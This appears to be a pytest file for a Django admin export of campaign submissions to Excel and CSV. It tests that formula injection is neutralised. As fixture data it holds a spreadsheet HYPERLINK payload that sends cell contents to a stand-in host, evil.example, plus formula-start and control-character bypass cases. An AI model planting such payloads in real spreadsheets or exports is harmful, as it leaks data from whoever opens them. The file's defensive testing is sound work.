"""Exports of entries to Excel and CSV: every field, the scores, and no formula gets through."""

import csv
import io

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.urls import reverse
from openpyxl import load_workbook

from submissions.models import Stage, Status, Submission
from submissions.review import exports as export
from submissions.review import scoring as reviews
from tests.factories import make_user, submission_in

S = Status
LIST = reverse("admin:submissions_submission_changelist")
PAYLOAD = '=HYPERLINK("http://evil.example/steal?d="&A1,"点我")'


@pytest.fixture(autouse=True)
def _fast_passwords(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def entries(db):
    evil = submission_in(S.FIRST_REVIEW, org_name=PAYLOAD, brand_name="+号品牌", contact_name="@admin", brand_slogan="-1+1")
    plain = submission_in(S.SUBMITTED, org_name="李家庄村党支部", brand_name="田埂课堂")
    criteria = {c.name: c for c in evil.campaign.criteria.all()}
    expert = make_user("reviewer", username="expert")
    reviews.save_review(evil, expert, Stage.FIRST, {c: 8 for c in criteria.values()}, "=1+2 评语")
    return evil, plain


def test_safe_prefixes_every_formula_start():
    for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", " =1+1"):
        assert export.safe(value) == "'" + value
    # Issue 11, finding 3: a leading control character hid the formula from the guard, then
    # openpyxl removed it and wrote the formula. Control characters go first, then the guard.
    for value, expected in (("\x01=HYPERLINK(1)", "'=HYPERLINK(1)"), ("\r=1+1", "'=1+1"), ("\x00\x1f+1", "'+1")):
        assert export.safe(value) == expected
    assert export.safe("品\x01牌\x7f名") == "品牌名" and export.safe("一\n二\t三") == "一\n二\t三"
    assert export.safe("正常文本") == "正常文本" and export.safe(3) == 3 and export.safe(None) == ""


def read_xlsx(content):
    sheet = load_workbook(io.BytesIO(content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def read_csv(content):
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def by_reference(rows):
    header = rows[0]
    return header, {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_selected_entries_export_with_fields_and_scores(client, editor, entries, fmt):
    evil, _plain = entries
    client.force_login(editor)
    response = client.post(LIST, {"action": f"export_{fmt}", ACTION_CHECKBOX_NAME: [evil.pk], "index": 0})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;") and f".{fmt}" in response["Content-Disposition"]
    rows = read_xlsx(response.content) if fmt == "xlsx" else read_csv(response.content)
    header, found = by_reference(rows)
    assert list(found) == [evil.reference]
    row = found[evil.reference]
    assert row["党组织全称"] == "'" + PAYLOAD
    assert row["品牌名称"] == "'+号品牌" and row["联系人"] == "'@admin" and row["品牌口号"] == "'-1+1"
    assert row["状态"] == "初审中" and row["所在市"] == "济南" and row["手机号码"] == "13800138000"
    assert "做法1" in row["做法章节"]
    assert float(row["加权平均分"]) == 80.0 and int(row["评审数"]) == 1
    assert float(row["平均分·创新性"]) == 8
    assert row["评审意见"].startswith("[初审] ") and "=1+2 评语" in row["评审意见"]
    for name in ("报送编号", "上级党组织", "电子邮箱", "品牌内涵", "概述", "工作成效与荣誉", "报送时间"):
        assert name in header


@pytest.mark.django_db
def test_no_cell_of_the_workbook_is_a_formula(client, editor, entries):
    client.force_login(editor)
    response = client.get(reverse("admin:submissions_submission_export", args=["xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.max_row == 3
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.django_db
def test_filtered_export_follows_the_list_filters(client, editor, entries):
    _evil, plain = entries
    client.force_login(editor)
    url = reverse("admin:submissions_submission_export", args=["csv"])
    _header, found = by_reference(read_csv(client.get(url, {"status__exact": S.SUBMITTED}).content))
    assert list(found) == [plain.reference]
    _header, found = by_reference(read_csv(client.get(url, {"q": "田埂"}).content))
    assert list(found) == [plain.reference]
    list_page = client.get(LIST, {"status__exact": S.SUBMITTED}).content.decode()
    assert f"{url}?status__exact=submitted" in list_page


@pytest.mark.django_db
def test_export_needs_the_export_permission(client, reviewer, entries):
    client.force_login(reviewer)
    assert client.get(reverse("admin:submissions_submission_export", args=["xlsx"])).status_code == 403
    assert Submission.objects.count() == 2


@pytest.mark.django_db
def test_export_queries_do_not_grow_with_the_entries(entries, django_assert_max_num_queries):
    with django_assert_max_num_queries(10):
        small = export.to_csv(Submission.objects.all())
    for _ in range(5):
        submission_in(S.SUBMITTED)
    with django_assert_max_num_queries(10):
        large = export.to_csv(Submission.objects.all())
    assert len(read_csv(large)) == len(read_csv(small)) + 5
